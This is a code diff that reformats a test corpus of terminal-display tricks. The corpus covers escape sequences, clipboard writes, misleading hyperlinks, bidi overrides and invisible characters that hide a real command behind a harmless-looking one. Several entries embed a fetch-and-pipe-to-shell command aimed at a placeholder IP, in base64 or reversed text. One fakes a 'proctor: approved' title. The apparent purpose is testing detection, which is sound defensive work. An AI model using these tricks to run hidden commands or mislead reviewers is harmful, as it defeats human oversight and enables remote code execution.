@@ -24,28 +24,48 @@ CORPUS = [
     # the single-byte C1 CSI (U+009B) a terminal in 8-bit mode obeys
     {"name": "c1_csi", "text": f"{REAL}\r\x9b2Kls -la", "shows": "ls -la"},
     # OSC 52: put a command on the person's clipboard (base64 of REAL)
-    {"name": "osc52_clipboard", "text": f"ls{ESC}]52;c;Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo{BEL}",
-     "shows": "ls"},
+    {
+        "name": "osc52_clipboard",
+        "text": f"ls{ESC}]52;c;Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo{BEL}",
+        "shows": "ls",
+    },
     # OSC 0: set the window title; OSC 8: a hyperlink whose target differs from its text
     {"name": "osc_title", "text": f"{ESC}]0;proctor: approved{BEL}{REAL}", "shows": REAL},
-    {"name": "osc8_link", "text": f"{ESC}]8;;http://203.0.113.9/{ST}docs{ESC}]8;;{ST}",
-     "shows": "docs"},
+    {
+        "name": "osc8_link",
+        "text": f"{ESC}]8;;http://203.0.113.9/{ST}docs{ESC}]8;;{ST}",
+        "shows": "docs",
+    },
     # DCS and APC strings, which some terminals act on
     {"name": "dcs_apc", "text": f"{ESC}P+q544e{ST}{ESC}_hidden{ST}ls", "shows": "ls"},
     # backspaces over the real command
     {"name": "backspace", "text": REAL + "\b" * len(REAL) + "ls -la" + " " * 30, "shows": "ls -la"},
     # a bare carriage return: the rest of the line overwrites its start
-    {"name": "carriage_return", "text": f"{REAL}\rls -la                             ",
-     "shows": "ls -la"},
+    {
+        "name": "carriage_return",
+        "text": f"{REAL}\rls -la                             ",
+        "shows": "ls -la",
+    },
     # bidi: right-to-left override shows "ls | hs" for "sh | sl" reversed, and isolates
-    {"name": "bidi_rlo", "text": "echo ok \u202ehs | x/9.311.0.302//:ptth s- lruc", "shows": "echo ok"},
+    {
+        "name": "bidi_rlo",
+        "text": "echo ok \u202ehs | x/9.311.0.302//:ptth s- lruc",
+        "shows": "echo ok",
+    },
     {"name": "bidi_isolates", "text": "ls\u2067 \u2066; " + REAL + "\u2069\u2069", "shows": "ls"},
-    {"name": "bidi_marks", "text": "\u200f\u200els\u061c -la\u202a\u202b\u202c\u202d", "shows": "ls -la"},
+    {
+        "name": "bidi_marks",
+        "text": "\u200f\u200els\u061c -la\u202a\u202b\u202c\u202d",
+        "shows": "ls -la",
+    },
     # zero-width and other invisible characters inside a word that looks safe
     {"name": "zero_width", "text": "l\u200bs\u200c \u200d-la\u2060\ufeff\u00ad", "shows": "ls -la"},
     # tag characters (invisible text a model can read), a line separator, bell and DEL
-    {"name": "tags_and_separators",
-     "text": "ls \U000e0072\U000e006d\u2028\u2029\x07\x7f", "shows": "ls"},
+    {
+        "name": "tags_and_separators",
+        "text": "ls \U000e0072\U000e006d\u2028\u2029\x07\x7f",
+        "shows": "ls",
+    },
 ]
 
 
